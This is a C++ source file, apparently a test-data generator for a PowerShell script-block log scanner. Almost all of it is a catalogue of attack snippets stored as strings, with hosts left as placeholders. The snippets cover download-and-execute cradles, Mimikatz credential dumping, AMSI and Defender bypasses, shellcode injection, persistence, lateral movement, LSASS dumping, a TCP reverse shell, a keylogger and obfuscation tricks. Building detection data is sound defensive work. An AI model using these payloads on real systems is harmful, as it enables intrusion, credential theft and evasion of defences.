// Attack technique snippets as they appear in real 4104 logs (public red-team
// tooling and incident write-ups). Every payload is inert text: hosts are
// reserved/example addresses and encoded parts are computed by the generator
// (dynamic placeholders <<enccradle>>, <<base64utf>>, <<deflatebase>>, ...).
#include <string_view>

#include "tools/generator/material.h"

namespace sbscan::gen::material {
namespace {

using SV = std::string_view;

constexpr SV kCradleWebClient[] = {
    R"PS(IEX (New-Object Net.WebClient).DownloadString('<<c2url>>')
)PS",
    R"PS(Invoke-Expression ((New-Object System.Net.WebClient).DownloadString("<<c2url>>"))
)PS",
    R"PS($wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36')
$wc.Proxy = [System.Net.WebRequest]::DefaultWebProxy
$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials
IEX $wc.DownloadString('<<c2url>>')
)PS",
    R"PS(powershell.exe -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring('<<c2url>>'))"
)PS",
};
constexpr SV kCradleIwr[] = {
    R"PS(iex (iwr '<<c2url>>' -UseBasicParsing).Content
)PS",
    R"PS(Invoke-WebRequest -Uri <<c2url>> -UseBasicParsing | Invoke-Expression
)PS",
    R"PS(IEX (Invoke-RestMethod -Uri '<<c2url>>')
)PS",
    R"PS($r = [System.Net.WebRequest]::Create('<<c2url>>'); $s = $r.GetResponse().GetResponseStream(); IEX ([System.IO.StreamReader]::new($s)).ReadToEnd()
)PS",
};
constexpr SV kDownloadExec[] = {
    R"PS((New-Object Net.WebClient).DownloadFile('<<c2exe>>', "$env:TEMP\<<drop>>.exe"); Start-Process "$env:TEMP\<<drop>>.exe" -WindowStyle Hidden
)PS",
    R"PS(Start-BitsTransfer -Source '<<c2exe>>' -Destination "$env:APPDATA\<<drop>>.exe"; & "$env:APPDATA\<<drop>>.exe"
)PS",
    R"PS(certutil.exe -urlcache -split -f <<c2exe>> C:\Users\Public\<<drop>>.exe; C:\Users\Public\<<drop>>.exe
)PS",
};
constexpr SV kInvokeMimikatz[] = {
    R"PS(Invoke-Mimikatz -DumpCreds
)PS",
    R"PS(IEX (New-Object Net.WebClient).DownloadString('<<c2url>>'); Invoke-Mimikatz -DumpCreds | Out-File C:\Users\Public\<<drop>>.txt
)PS",
    R"PS(Invoke-Mimikatz -ComputerName @('<<srv>>', '<<srv2>>') -DumpCreds
)PS",
};
constexpr SV kMimikatzCommands[] = {
    R"PS(Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords" "exit"'
)PS",
    R"PS(Invoke-Mimikatz -Command '"lsadump::sam" "exit"'
)PS",
    R"PS(Invoke-Mimikatz -Command '"sekurlsa::pth /user:Administrator /domain:corp.example.com /ntlm:<<ntlm>> /run:powershell.exe"'
)PS",
    R"PS(Invoke-Mimikatz -Command '"lsadump::dcsync /domain:corp.example.com /user:krbtgt"'
)PS",
};
constexpr SV kAmsiBypass[] = {
    R"PS([Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
)PS",
    R"PS($a = [Ref].Assembly.GetType('System.Management.Automation.' + 'Amsi' + 'Utils')
$f = $a.GetField('amsi' + 'InitFailed', 'NonPublic,Static')
$f.SetValue($null, $true)
)PS",
    R"PS([Runtime.InteropServices.Marshal]::WriteInt32([Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiContext',[Reflection.BindingFlags]'NonPublic,Static').GetValue($null),0x41414141)
)PS",
};
constexpr SV kDefenderTamper[] = {
    R"PS(Set-MpPreference -DisableRealtimeMonitoring $true
)PS",
    R"PS(Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -DisableScriptScanning $true
)PS",
    R"PS(Add-MpPreference -ExclusionPath 'C:\ProgramData\<<drop>>'; Set-MpPreference -DisableRealtimeMonitoring $true
)PS",
};
constexpr SV kEncodedCommand[] = {
    R"PS(powershell -nop -w hidden -enc <<enccradle>>
)PS",
    R"PS(Start-Process powershell.exe -ArgumentList '-NoP -NonI -W Hidden -EncodedCommand <<enccradle>>' -WindowStyle Hidden
)PS",
    R"PS(cmd.exe /c "powershell.exe -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -e <<enccradle>>"
)PS",
};
constexpr SV kBase64Exec[] = {
    R"PS(iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('<<base64utf>>')))
)PS",
    R"PS($p = '<<base64utf>>'
$d = [System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($p))
Invoke-Expression $d
)PS",
};
constexpr SV kDeflateExec[] = {
    R"PS(IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('<<deflatebase>>'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
)PS",
    R"PS(.( $sHeLLiD[1]+$SHELlId[13]+'X') (New-Object System.IO.StreamReader((New-Object System.IO.Compression.DeflateStream([System.IO.MemoryStream][System.Convert]::FromBase64String('<<deflatebase>>'), [System.IO.Compression.CompressionMode]::Decompress)), [System.Text.Encoding]::ASCII)).ReadToEnd()
)PS",
};
constexpr SV kShellcodeInjection[] = {
    R"PS($code = @"
using System;
using System.Runtime.InteropServices;
public class W32 {
    [DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr lpAddress, uint dwSize, uint flAllocationType, uint flProtect);
    [DllImport("kernel32")] public static extern IntPtr CreateThread(IntPtr lpThreadAttributes, uint dwStackSize, IntPtr lpStartAddress, IntPtr lpParameter, uint dwCreationFlags, IntPtr lpThreadId);
    [DllImport("kernel32")] public static extern UInt32 WaitForSingleObject(IntPtr hHandle, UInt32 dwMilliseconds);
}
"@
Add-Type -TypeDefinition $code
[Byte[]] $buf = <<shellcode>>
$mem = [W32]::VirtualAlloc([IntPtr]::Zero, [uint32]$buf.Length, 0x3000, 0x40)
[System.Runtime.InteropServices.Marshal]::Copy($buf, 0, $mem, $buf.Length)
$th = [W32]::CreateThread([IntPtr]::Zero, 0, $mem, [IntPtr]::Zero, 0, [IntPtr]::Zero)
[W32]::WaitForSingleObject($th, [uint32]'0xFFFFFFFF')
)PS",
    R"PS($k = Add-Type -MemberDefinition '[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d); [DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint e, IntPtr f);' -Name 'Win32' -Namespace 'K<<rand>>' -PassThru
[Byte[]]$sc = <<shellcode>>
$addr = $k::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)
[Runtime.InteropServices.Marshal]::Copy($sc, 0, $addr, $sc.Length)
$k::CreateThread(0, 0, $addr, 0, 0, 0)
)PS",
};
constexpr SV kWmiPersistence[] = {
    R"PS($filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{
    Name = '<<drop>>Filter'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'
    Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"
}
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{
    Name = '<<drop>>Consumer'; CommandLineTemplate = "powershell.exe -nop -w hidden -c `"IEX ((New-Object Net.WebClient).DownloadString('<<c2url>>'))`""
}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer }
)PS",
};
constexpr SV kScheduledTask[] = {
    R"PS($action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -nop -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(''<<c2url>>'')"'
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName '<<drop>>Update' -Action $action -Trigger $trigger -RunLevel Highest -User 'SYSTEM' -Force
)PS",
    R"PS(schtasks.exe /create /tn "Microsoft\Windows\<<drop>>" /tr "powershell.exe -w hidden -f C:\ProgramData\<<drop>>.ps1" /sc onlogon /ru SYSTEM /f
)PS",
};
constexpr SV kRunKey[] = {
    R"PS(New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name '<<drop>>' -Value 'powershell.exe -w hidden -nop -f C:\Users\Public\<<drop>>.ps1' -PropertyType String -Force
)PS",
    R"PS(Set-ItemProperty -Path HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run -Name 'OneDriveSync' -Value "C:\ProgramData\<<drop>>\<<drop>>.exe"
)PS",
};
constexpr SV kLateralInvokeCommand[] = {
    R"PS(Invoke-Command -ComputerName <<srv>> -Credential $cred -ScriptBlock { IEX (New-Object Net.WebClient).DownloadString('<<c2url>>') }
)PS",
    R"PS(Get-ADComputer -Filter * | ForEach-Object { Invoke-Command -ComputerName $_.Name -ScriptBlock { net user <<drop>> P@ssw0rd!<<int>> /add; net localgroup administrators <<drop>> /add } -ErrorAction SilentlyContinue }
)PS",
    R"PS(Invoke-Command -ComputerName <<srv>> -ScriptBlock { Set-MpPreference -DisableRealtimeMonitoring $true; Start-Process C:\Windows\Temp\<<drop>>.exe }
)PS",
};
constexpr SV kLateralPsSession[] = {
    R"PS($pw = ConvertTo-SecureString 'Winter2024!' -AsPlainText -Force
$c = New-Object System.Management.Automation.PSCredential('CORP\<<user>>', $pw)
$s = New-PSSession -ComputerName <<srv>> -Credential $c
Copy-Item -Path C:\Users\Public\<<drop>>.exe -Destination C:\Windows\Temp\ -ToSession $s
Invoke-Command -Session $s -ScriptBlock { Start-Process C:\Windows\Temp\<<drop>>.exe }
)PS",
    R"PS(Enter-PSSession -ComputerName <<srv>> -Credential (New-Object PSCredential('CORP\<<user>>', (ConvertTo-SecureString 'Spring2024!' -AsPlainText -Force)))
)PS",
};
constexpr SV kAdDiscovery[] = {
    R"PS(Get-ADComputer -Filter * -Properties OperatingSystem, IPv4Address | Select-Object Name, OperatingSystem, IPv4Address | Export-Csv C:\Users\Public\c.csv
Get-ADUser -Filter { AdminCount -eq 1 } -Properties * | Select-Object SamAccountName, Description | Export-Csv C:\Users\Public\u.csv
)PS",
    R"PS(IEX (New-Object Net.WebClient).DownloadString('<<c2url>>')
Get-NetDomain; Get-NetDomainController; Find-LocalAdminAccess -Verbose
Invoke-ShareFinder -CheckShareAccess | Out-File C:\Users\Public\shares.txt
)PS",
    R"PS(Get-DomainUser -SPN | Select-Object samaccountname, serviceprincipalname
Get-DomainGroupMember -Identity 'Domain Admins' -Recurse
Get-DomainComputer -Unconstrained -Properties dnshostname
)PS",
};
constexpr SV kKerberoast[] = {
    R"PS(Invoke-Kerberoast -OutputFormat Hashcat | Select-Object -ExpandProperty Hash | Out-File -Encoding ascii C:\Users\Public\<<drop>>.txt
)PS",
    R"PS(Add-Type -AssemblyName System.IdentityModel
setspn.exe -T corp.example.com -Q */* | Select-String '^CN' -Context 0,1 | ForEach-Object {
    New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.Context.PostContext[0].Trim()
}
)PS",
};
constexpr SV kClearEventLog[] = {
    R"PS(Clear-EventLog -LogName Security, System, Application
)PS",
    R"PS(wevtutil cl Security; wevtutil cl System; wevtutil cl 'Windows PowerShell'
)PS",
    R"PS(Get-EventLog -List | ForEach-Object { Clear-EventLog -LogName $_.Log }
)PS",
};
constexpr SV kLsassDump[] = {
    R"PS(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump <<pid>> C:\Windows\Temp\<<drop>>.dmp full
)PS",
    R"PS($id = (Get-Process lsass).Id
& rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $id "$env:TEMP\<<drop>>.bin" full
)PS",
    R"PS(.\procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\<<drop>>.dmp
)PS",
};
constexpr SV kReverseShell[] = {
    R"PS($client = New-Object System.Net.Sockets.TCPClient('<<c2ip>>',<<c2port>>);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()
)PS",
    R"PS($socket = New-Object Net.Sockets.TcpClient('<<c2ip>>', <<c2port>>)
$stream = $socket.GetStream()
$writer = New-Object IO.StreamWriter($stream)
$reader = New-Object IO.StreamReader($stream)
while ($true) {
    $cmd = $reader.ReadLine()
    if ($cmd -eq 'exit') { break }
    $out = try { Invoke-Expression $cmd 2>&1 | Out-String } catch { $_ | Out-String }
    $writer.WriteLine($out); $writer.Flush()
}
$socket.Close()
)PS",
};
constexpr SV kTickObfuscation[] = {
    R"PS(I`E`X (N`e`w-Obj`ect Ne`t.WebC`lient).DownloadString('<<c2url>>')
)PS",
    R"PS(&("{0}{1}" -f 'IE','X') (& ("{2}{0}{1}" -f 'w-Objec','t','Ne') ("{1}{0}{2}" -f 'et.WebCli','N','ent')).("{0}{2}{1}" -f 'Downlo','String','ad').Invoke('<<c2url>>')
)PS",
    R"PS(. ( $PsHoMe[4]+$PshOMe[30]+'X') ((('{1}{0}'-f 'wnloadString','(New-Object Net.WebClient).Do')+"('<<c2url>>')"))
)PS",
    R"PS(Set-Item Variable:/q ([TYPe]'SySteM.NET.WEbClIEnt'); & ((gET-VaRiABlE '*mdr*').NaMe[3,11,2]-JoiN'') ((gcI VaRiabLE:q).VaLUe::new().DoWnLoAdSTrInG('<<c2url>>'))
)PS",
};
constexpr SV kCharCodes[] = {
    R"PS(iex ([string]::Join('', ((<<charcodes>>) | ForEach-Object { [char]$_ })))
)PS",
    R"PS($c = @(<<charcodes>>); & ([scriptblock]::Create(-join ($c | % { [char]$_ })))
)PS",
};
constexpr SV kXorPayload[] = {
    R"PS(<<xorpayload>>
)PS",
};
constexpr SV kDisableLogging[] = {
    R"PS(Set-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging' -Name EnableScriptBlockLogging -Value 0 -Force
)PS",
    R"PS($settings = [Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null)
$settings['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging']['EnableScriptBlockLogging'] = 0
)PS",
};
constexpr SV kRegSaveSam[] = {
    R"PS(reg.exe save HKLM\SAM C:\Windows\Temp\sam.save /y; reg.exe save HKLM\SYSTEM C:\Windows\Temp\system.save /y
)PS",
    R"PS(cmd /c "reg save HKLM\SECURITY C:\Users\Public\sec.hiv & reg save HKLM\SYSTEM C:\Users\Public\sys.hiv"
)PS",
};
constexpr SV kTokenManipulation[] = {
    R"PS(Invoke-TokenManipulation -ImpersonateUser -Username 'nt authority\system'
)PS",
    R"PS(Get-Process -Name winlogon | Invoke-TokenManipulation -CreateProcess 'cmd.exe'
)PS",
};
constexpr SV kKeylogger[] = {
    R"PS($sig = '[DllImport("user32.dll", CharSet=CharSet.Auto, ExactSpelling=true)] public static extern short GetAsyncKeyState(int virtualKeyCode);'
$api = Add-Type -MemberDefinition $sig -Name 'Keyboard' -Namespace PsOneApi -PassThru
while ($true) {
    Start-Sleep -Milliseconds 40
    for ($ascii = 9; $ascii -le 254; $ascii++) {
        if ($api::GetAsyncKeyState($ascii) -eq -32767) { [char]$ascii | Out-File -Append "$env:APPDATA\<<drop>>.log" }
    }
}
)PS",
};
constexpr SV kExecutionPolicyBypass[] = {
    R"PS(powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -NoProfile -File C:\Users\Public\<<drop>>.ps1
)PS",
    R"PS(Set-ExecutionPolicy Bypass -Scope Process -Force; Import-Module C:\Users\Public\<<drop>>.psm1; Invoke-<<drop>>
)PS",
};

constexpr Technique kTechniques[] = {
    {"download_cradle.webclient", kCradleWebClient},
    {"download_cradle.iwr", kCradleIwr},
    {"download_exec.file", kDownloadExec},
    {"mimikatz.invoke", kInvokeMimikatz},
    {"mimikatz.command", kMimikatzCommands},
    {"amsi_bypass", kAmsiBypass},
    {"defender.disable", kDefenderTamper},
    {"encoded_command", kEncodedCommand},
    {"obfuscation.base64_exec", kBase64Exec},
    {"obfuscation.deflate_exec", kDeflateExec},
    {"injection.shellcode_addtype", kShellcodeInjection},
    {"persistence.wmi_subscription", kWmiPersistence},
    {"persistence.scheduled_task", kScheduledTask},
    {"persistence.run_key", kRunKey},
    {"lateral.invoke_command", kLateralInvokeCommand},
    {"lateral.pssession", kLateralPsSession},
    {"discovery.ad_powerview", kAdDiscovery},
    {"cred.kerberoast", kKerberoast},
    {"defense_evasion.clear_eventlog", kClearEventLog},
    {"cred.lsass_dump", kLsassDump},
    {"c2.reverse_shell_tcp", kReverseShell},
    {"obfuscation.tick_format", kTickObfuscation},
    {"obfuscation.char_codes", kCharCodes},
    {"obfuscation.xor", kXorPayload},
    {"defense_evasion.disable_logging", kDisableLogging},
    {"cred.reg_save_sam", kRegSaveSam},
    {"privesc.token_manipulation", kTokenManipulation},
    {"collection.keylogger", kKeylogger},
    {"execution.policy_bypass", kExecutionPolicyBypass},
};

// Inner code that encoded placeholders wrap.
constexpr SV kInner[] = {
    "IEX (New-Object Net.WebClient).DownloadString('<<c2url>>')",
    "$c=New-Object System.Net.Sockets.TCPClient('<<c2ip>>',<<c2port>>);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$r=[text.encoding]::ASCII.GetBytes($o+'PS> ');$s.Write($r,0,$r.Length)}",
    "Invoke-Mimikatz -DumpCreds",
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true); IEX (iwr '<<c2url>>' -UseBasicParsing).Content",
    "Set-MpPreference -DisableRealtimeMonitoring $true; (New-Object Net.WebClient).DownloadFile('<<c2exe>>',\"$env:TEMP\\<<drop>>.exe\"); Start-Process \"$env:TEMP\\<<drop>>.exe\"",
    "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');IEX $wc.DownloadString('<<c2url>>')",
};

}  // namespace

std::span<const Technique> Techniques() { return kTechniques; }
std::span<const std::string_view> InnerPayloads() { return kInner; }

}  // namespace sbscan::gen::material
